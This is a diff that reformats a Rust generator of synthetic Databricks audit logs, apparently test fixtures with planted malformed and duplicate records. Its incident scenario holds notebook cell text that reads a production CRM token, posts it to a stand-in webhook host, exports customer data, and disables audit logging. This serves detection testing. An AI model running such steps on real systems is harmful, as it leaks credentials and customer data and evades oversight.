@@ -18,18 +18,32 @@ fn at(date: &str, hms: &str) -> i64 {
 
 impl Generator {
     /// Renames notebook `nb` (as `renameNotebook` at `t`) and returns (id, old path, new path).
-    fn rename(&mut self, t: i64, ws: u64, nb: usize, new_name: &str, out: &mut dyn FnMut(Rec)) -> (String, String, String) {
+    fn rename(
+        &mut self,
+        t: i64,
+        ws: u64,
+        nb: usize,
+        new_name: &str,
+        out: &mut dyn FnMut(Rec),
+    ) -> (String, String, String) {
         let old = self.notebooks[nb].path.clone();
         let (parent, old_name) = old.rsplit_once('/').expect("path has a parent");
         let new = format!("{parent}/{new_name}");
         let user = USERS[self.notebooks[nb].owner];
         let id = self.notebooks[nb].id.clone();
-        out(self.rec(t, ws, user, "notebook", "renameNotebook", &[
-            ("notebookId", id.clone()),
-            ("oldName", old_name.to_string()),
-            ("newName", new_name.to_string()),
-            ("parentPath", parent.to_string()),
-        ]));
+        out(self.rec(
+            t,
+            ws,
+            user,
+            "notebook",
+            "renameNotebook",
+            &[
+                ("notebookId", id.clone()),
+                ("oldName", old_name.to_string()),
+                ("newName", new_name.to_string()),
+                ("parentPath", parent.to_string()),
+            ],
+        ));
         self.notebooks[nb].path = new.clone();
         (id, old, new)
     }
@@ -40,46 +54,156 @@ impl Generator {
         let u = INCIDENT_USER;
         let id = "4419276310582231".to_string();
         let cl = cluster(ws);
-        let mut login = self.rec(at(d, "19:01:12"), ws, u, "accounts", "login", &[("user", u.into())]);
+        let mut login = self.rec(
+            at(d, "19:01:12"),
+            ws,
+            u,
+            "accounts",
+            "login",
+            &[("user", u.into())],
+        );
         login.ip = "203.0.113.77".into();
         out(login);
-        out(self.rec(at(d, "19:02:40"), ws, u, "notebook", "createNotebook", &[
-            ("notebookId", id.clone()), ("path", INCIDENT_NOTEBOOK.into()), ("language", "PYTHON".into()),
-        ]));
-        out(self.rec(at(d, "19:03:05"), ws, u, "notebook", "attachNotebook", &[
-            ("notebookId", id.clone()), ("clusterId", cl.clone()), ("path", INCIDENT_NOTEBOOK.into()),
-        ]));
+        out(self.rec(
+            at(d, "19:02:40"),
+            ws,
+            u,
+            "notebook",
+            "createNotebook",
+            &[
+                ("notebookId", id.clone()),
+                ("path", INCIDENT_NOTEBOOK.into()),
+                ("language", "PYTHON".into()),
+            ],
+        ));
+        out(self.rec(
+            at(d, "19:03:05"),
+            ws,
+            u,
+            "notebook",
+            "attachNotebook",
+            &[
+                ("notebookId", id.clone()),
+                ("clusterId", cl.clone()),
+                ("path", INCIDENT_NOTEBOOK.into()),
+            ],
+        ));
         let cells: &[(&str, &str, &str, f64)] = &[
-            ("19:03:51.200", "%md\n# churn scratch\nquick look at at-risk accounts", "finished", 0.021),
-            ("19:05:10.480", "crm_token = dbutils.secrets.get(scope=\"prod-crm\", key=\"crm-api-token\")", "finished", 0.388),
-            ("19:05:44.903", "print(f\"token is {crm_token}\")", "finished", 0.012),
-            ("19:08:02.117", "import requests\nresp = requests.post(\"https://hooks.example.net/collect\", json={\"token\": crm_token, \"source\": \"dbx\"}, timeout=10)\nprint(resp.status_code)", "finished", 1.734),
-            ("19:12:30.550", "customers = spark.table(\"prod.crm.customers\")\ndisplay(customers.limit(20))", "finished", 6.912),
-            ("19:20:15.004", "customers.toPandas().to_csv(\"/dbfs/tmp/customers_export.csv\", index=False)", "finished", 184.455),
-            ("19:21:02.731", "dbutils.fs.cp(\"dbfs:/tmp/customers_export.csv\", \"dbfs:/FileStore/tmp/customers_export.csv\")", "finished", 2.310),
+            (
+                "19:03:51.200",
+                "%md\n# churn scratch\nquick look at at-risk accounts",
+                "finished",
+                0.021,
+            ),
+            (
+                "19:05:10.480",
+                "crm_token = dbutils.secrets.get(scope=\"prod-crm\", key=\"crm-api-token\")",
+                "finished",
+                0.388,
+            ),
+            (
+                "19:05:44.903",
+                "print(f\"token is {crm_token}\")",
+                "finished",
+                0.012,
+            ),
+            (
+                "19:08:02.117",
+                "import requests\nresp = requests.post(\"https://hooks.example.net/collect\", json={\"token\": crm_token, \"source\": \"dbx\"}, timeout=10)\nprint(resp.status_code)",
+                "finished",
+                1.734,
+            ),
+            (
+                "19:12:30.550",
+                "customers = spark.table(\"prod.crm.customers\")\ndisplay(customers.limit(20))",
+                "finished",
+                6.912,
+            ),
+            (
+                "19:20:15.004",
+                "customers.toPandas().to_csv(\"/dbfs/tmp/customers_export.csv\", index=False)",
+                "finished",
+                184.455,
+            ),
+            (
+                "19:21:02.731",
+                "dbutils.fs.cp(\"dbfs:/tmp/customers_export.csv\", \"dbfs:/FileStore/tmp/customers_export.csv\")",
+                "finished",
+                2.310,
+            ),
         ];
         let mut codes = Vec::new();
         for (hms, code, status, exec) in cells {
             let t = at(d, hms);
             if code.contains("secrets.get") {
-                out(self.rec(t - 150, ws, u, "secrets", "getSecret", &[("scope", "prod-crm".into()), ("key", "crm-api-token".into())]));
+                out(self.rec(
+                    t - 150,
+                    ws,
+                    u,
+                    "secrets",
+                    "getSecret",
+                    &[
+                        ("scope", "prod-crm".into()),
+                        ("key", "crm-api-token".into()),
+                    ],
+                ));
             }
             self.command(t, ws, u, &id, &cl, code, "python", *exec, status, out);
             codes.push(code.to_string());
         }
-        out(self.rec(at(d, "19:31:40"), ws, u, "filesystem", "filesGet", &[("path", "/FileStore/tmp/customers_export.csv")].map(|(k, v)| (k, v.to_string()))));
-        out(self.rec(at(d, "19:33:05"), ws, u, "notebook", "downloadLargeResults", &[
-            ("notebookFullPath", INCIDENT_NOTEBOOK.into()), ("notebookId", id.clone()),
-        ]));
-        out(self.rec(at(d, "19:35:22"), ws, u, "workspace", "workspaceExport", &[
-            ("workspaceExportFormat", "HTML".into()), ("notebookFullPath", INCIDENT_NOTEBOOK.into()),
-        ]));
-        out(self.rec(at(d, "19:40:09"), ws, u, "notebook", "detachNotebook", &[
-            ("notebookId", id.clone()), ("clusterId", cl), ("path", INCIDENT_NOTEBOOK.into()),
-        ]));
-        out(self.rec(at(d, "19:41:30"), ws, u, "notebook", "deleteNotebook", &[
-            ("notebookId", id.clone()), ("path", INCIDENT_NOTEBOOK.into()),
-        ]));
+        out(self.rec(
+            at(d, "19:31:40"),
+            ws,
+            u,
+            "filesystem",
+            "filesGet",
+            &[("path", "/FileStore/tmp/customers_export.csv")].map(|(k, v)| (k, v.to_string())),
+        ));
+        out(self.rec(
+            at(d, "19:33:05"),
+            ws,
+            u,
+            "notebook",
+            "downloadLargeResults",
+            &[
+                ("notebookFullPath", INCIDENT_NOTEBOOK.into()),
+                ("notebookId", id.clone()),
+            ],
+        ));
+        out(self.rec(
+            at(d, "19:35:22"),
+            ws,
+            u,
+            "workspace",
+            "workspaceExport",
+            &[
+                ("workspaceExportFormat", "HTML".into()),
+                ("notebookFullPath", INCIDENT_NOTEBOOK.into()),
+            ],
+        ));
+        out(self.rec(
+            at(d, "19:40:09"),
+            ws,
+            u,
+            "notebook",
+            "detachNotebook",
+            &[
+                ("notebookId", id.clone()),
+                ("clusterId", cl),
+                ("path", INCIDENT_NOTEBOOK.into()),
+            ],
+        ));
+        out(self.rec(
+            at(d, "19:41:30"),
+            ws,
+            u,
+            "notebook",
+            "deleteNotebook",
+            &[
+                ("notebookId", id.clone()),
+                ("path", INCIDENT_NOTEBOOK.into()),
+            ],
+        ));
         (id, codes)
     }
 }
@@ -106,7 +230,9 @@ fn write_lines(path: &Path, lines: &[String]) -> io::Result<u64> {
     }
     if path.extension().is_some_and(|e| e == "gz") {
         // Fixed header mtime so the output is byte-for-byte reproducible.
-        let mut enc = flate2::GzBuilder::new().mtime(0).write(Vec::new(), Compression::default());
+        let mut enc = flate2::GzBuilder::new()
+            .mtime(0)
+            .write(Vec::new(), Compression::default());
         enc.write_all(body.as_bytes())?;
         fs::write(path, enc.finish()?)?;
     } else {
@@ -131,18 +257,40 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
         let mut recs = Vec::new();
         let mut out = |r: Rec| recs.push(r);
         if d.to_string() == "2024-05-06" {
-            truth.renamed = Some(g.rename(at("2024-05-06", "07:31:00"), WS_DELIVERED, 3, "adhoc_queries_q2_archive", &mut out));
+            truth.renamed = Some(g.rename(
+                at("2024-05-06", "07:31:00"),
+                WS_DELIVERED,
+                3,
+                "adhoc_queries_q2_archive",
+                &mut out,
+            ));
         }
         g.day(*d, WS_DELIVERED, &[0, 1, 3], &mut out);
         if d.to_string() == "2024-05-09" {
-            out(g.rec(gap.0, WS_DELIVERED, GAP_USER, "workspace", "workspaceConfEdit", &[
-                ("workspaceConfKeys", "enableVerboseAuditLogs".into()), ("workspaceConfValues", "false".into()),
-            ]));
+            out(g.rec(
+                gap.0,
+                WS_DELIVERED,
+                GAP_USER,
+                "workspace",
+                "workspaceConfEdit",
+                &[
+                    ("workspaceConfKeys", "enableVerboseAuditLogs".into()),
+                    ("workspaceConfValues", "false".into()),
+                ],
+            ));
         }
         if d.to_string() == "2024-05-11" {
-            out(g.rec(gap.1, WS_DELIVERED, GAP_USER, "workspace", "workspaceConfEdit", &[
-                ("workspaceConfKeys", "enableVerboseAuditLogs".into()), ("workspaceConfValues", "true".into()),
-            ]));
+            out(g.rec(
+                gap.1,
+                WS_DELIVERED,
+                GAP_USER,
+                "workspace",
+                "workspaceConfEdit",
+                &[
+                    ("workspaceConfKeys", "enableVerboseAuditLogs".into()),
+                    ("workspaceConfValues", "true".into()),
+                ],
+            ));
         }
         if d.to_string() == "2024-05-14" {
             let (id, cells) = g.incident(WS_DELIVERED, &mut out);
@@ -161,7 +309,10 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
     let mut valid = 0u64;
     for (i, (d, recs)) in by_day.iter().enumerate() {
         let ext = if i % 4 == 3 { "json.gz" } else { "json" };
-        let rel = format!("delivered/workspaceId={WS_DELIVERED}/date={d}/auditlogs_{:08x}.{ext}", d.to_string().len() as u64 * 0x1f3d + i as u64 * 0x9e37);
+        let rel = format!(
+            "delivered/workspaceId={WS_DELIVERED}/date={d}/auditlogs_{:08x}.{ext}",
+            d.to_string().len() as u64 * 0x1f3d + i as u64 * 0x9e37
+        );
         let mut lines: Vec<String> = recs.iter().map(delivered).collect();
         valid += lines.len() as u64;
         let mut bad = Vec::new();
@@ -177,17 +328,24 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
             lines.insert(5, v.to_string());
             bad.push(6);
         }
-        truth.records.insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
+        truth
+            .records
+            .insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
         if !bad.is_empty() {
             truth.malformed.insert(rel.clone(), bad);
         }
         if d.to_string() == "2024-05-07" {
             // The same day's records delivered a second time under another name.
-            let rel2 = format!("delivered/workspaceId={WS_DELIVERED}/date={d}/auditlogs_{:08x}-redelivered.json", 0xfeed_u32);
+            let rel2 = format!(
+                "delivered/workspaceId={WS_DELIVERED}/date={d}/auditlogs_{:08x}-redelivered.json",
+                0xfeed_u32
+            );
             let dup: Vec<String> = recs.iter().map(delivered).collect();
             truth.duplicates += dup.len() as u64;
             valid += dup.len() as u64;
-            truth.records.insert(rel2.clone(), write_lines(&dir.join(&rel2), &dup)?);
+            truth
+                .records
+                .insert(rel2.clone(), write_lines(&dir.join(&rel2), &dup)?);
         }
     }
 
@@ -201,7 +359,10 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
     let split_csv = at("2024-05-10", "00:00:00");
     let json_part: Vec<&Rec> = ws2.iter().filter(|r| r.time_ms < split_json).collect();
     let csv_part: Vec<&Rec> = ws2.iter().filter(|r| r.time_ms >= split_csv).collect();
-    truth.duplicates += ws2.iter().filter(|r| r.time_ms >= split_csv && r.time_ms < split_json).count() as u64;
+    truth.duplicates += ws2
+        .iter()
+        .filter(|r| r.time_ms >= split_csv && r.time_ms < split_json)
+        .count() as u64;
     let mut lines: Vec<String> = json_part.iter().map(|r| system_table(r)).collect();
     valid += lines.len() as u64;
     let mut v: Value = serde_json::from_str(&lines[20]).expect("own json");
@@ -209,7 +370,9 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
     lines.insert(21, v.to_string());
     let rel = "system-table/audit_2024-05-01_2024-05-12.jsonl".to_string();
     truth.malformed.insert(rel.clone(), vec![22]);
-    truth.records.insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
+    truth
+        .records
+        .insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
 
     let mut rows = vec![CSV_HEADER.join(",")];
     let mut row_line = vec![1u64];
@@ -242,18 +405,31 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
     jitter(&mut rng, &mut ws3);
     let split = at("2024-05-11", "00:00:00");
     let (first, second): (Vec<&Rec>, Vec<&Rec>) = ws3.iter().partition(|r| r.time_ms < split);
-    let mut lines: Vec<String> = first.iter().enumerate().map(|(i, r)| azure(r, i % 5 != 0)).collect();
+    let mut lines: Vec<String> = first
+        .iter()
+        .enumerate()
+        .map(|(i, r)| azure(r, i % 5 != 0))
+        .collect();
     valid += lines.len() as u64;
-    lines.insert(40, "<html><body>503 Service Unavailable</body></html>".into());
+    lines.insert(
+        40,
+        "<html><body>503 Service Unavailable</body></html>".into(),
+    );
     let rel = "azure/DatabricksNotebook_2024-05-01_2024-05-10.jsonl".to_string();
     truth.malformed.insert(rel.clone(), vec![41]);
-    truth.records.insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
+    truth
+        .records
+        .insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
 
     // The array: pretty-printed elements (several lines each), one with an unparseable time.
     let mut body = String::from("[\n");
     let mut line = 2u64;
     let mut bad = Vec::new();
-    let mut elements: Vec<Value> = second.iter().enumerate().map(|(i, r)| azure_value(r, i % 5 != 0)).collect();
+    let mut elements: Vec<Value> = second
+        .iter()
+        .enumerate()
+        .map(|(i, r)| azure_value(r, i % 5 != 0))
+        .collect();
     valid += elements.len() as u64;
     let mut broken = elements[15].clone();
     broken["TimeGenerated"] = Value::String("13/05/2024 25:61".into());
@@ -282,7 +458,12 @@ pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
 
     truth.unique_events = valid - truth.duplicates;
     let mut commands = 0;
-    for r in by_day.values().flatten().chain(ws2.iter()).chain(ws3.iter()) {
+    for r in by_day
+        .values()
+        .flatten()
+        .chain(ws2.iter())
+        .chain(ws3.iter())
+    {
         if r.action == "runCommand" {
             commands += 1;
         }
@@ -331,7 +512,8 @@ pub fn write_bench(path: &Path, events: u64, seed: u64, shape: BenchShape) -> io
                 n += 1;
             }
         });
-        err.as_ref().map_err(|e| io::Error::new(e.kind(), e.to_string()))?;
+        err.as_ref()
+            .map_err(|e| io::Error::new(e.kind(), e.to_string()))?;
         day += Duration::days(1);
     }
     w.flush()?;
